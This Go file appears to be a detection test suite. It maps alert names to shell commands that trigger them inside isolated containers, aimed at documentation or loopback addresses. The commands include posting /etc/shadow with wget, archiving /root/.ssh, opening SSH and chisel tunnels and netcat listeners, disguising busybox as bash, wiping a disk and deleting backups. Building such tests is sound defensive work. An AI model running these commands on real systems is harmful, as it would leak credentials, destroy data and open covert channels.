package main

// as begins scripts in which a program of any path connects: as PATH ADDRESS PORT. The containers have no network, and
// the addresses are for documentation: an attempt is an event too.
const as = `as() { mkdir -p "${1%/*}"; cp /bin/busybox "$1"; (exec -a nc "$1" -w 1 "$2" "$3" </dev/null); }
`

var provokeNetwork = map[string]provocation{
	"network_scanner_executed":         inContainer(`run nmap -sS 10.0.0.0/24`),
	"container_discovery_tool":         inContainer(`run cat /proc/1/cgroup`),
	"setuid_files_searched":            inContainer(`run find / -maxdepth 1 -perm -4000`),
	"kernel_symbols_read_in_container": inContainer(`run head -n 1 /proc/kallsyms`),

	"ssh_from_container":            inContainer(`run ssh root@10.0.0.1`),
	"ssh_tunnel_opened":             inContainer(`run ssh -R 8080:localhost:80 203.0.113.9`),
	"remote_copy_from_container":    inContainer(`run rsync -a /home root@10.0.0.1:/x`),
	"tunnelling_tool_executed":      inContainer(`run chisel client 203.0.113.9 R:80`),
	"network_relay_in_container":    inContainer(`run socat - TCP:10.0.0.1:80`),
	"ssh_connection_from_container": inContainer(`run nc -w 1 10.0.0.1 22`),

	"shell_connects_to_internet":          inContainer(as + `as /opt/bash 203.0.113.9 80`),
	"shell_connects_to_local_network":     inContainer(as + `as /opt/bash 10.0.0.1 80`),
	"system_command_connects_to_internet": inContainer(as + `as /opt/whoami 203.0.113.9 80`),
	"dropped_program_connects":            inContainer(as + `as /tmp/x 203.0.113.9 80`),
	"miner_pool_port_contacted":           inContainer(`run nc -w 1 203.0.113.9 3333`),

	"shell_or_relay_listens":          inContainer(`run nc -l -p 4444`),
	"unexpected_listening_port":       inContainer(`run nc -l -p 31337`),
	"simple_web_server_started":       inContainer(`run busybox httpd -f -p 8080`),
	"download_to_temporary_directory": inContainer(`run wget -O /tmp/x http://127.0.0.1:1/`),
}

// What is wiped and deleted is not there.
var provokeImpact = map[string]provocation{
	"secrets_sent_over_network":            inContainer(`run wget --post-file=/etc/shadow http://127.0.0.1:1/`),
	"sensitive_directory_archived_by_hand": inContainer(`run tar -cf /tmp/x.tar /root/.ssh`),
	"miner_executed":                       inContainer(`run xmrig`),
	"disk_wiped":                           inContainer(`run dd if=/dev/null of=/dev/sdz`),
	"files_deleted_in_bulk":                inContainer(`run rm -rf /backups`),
	"recovery_inhibited":                   inContainer(`run lvremove -f vg/snapshot`),
}
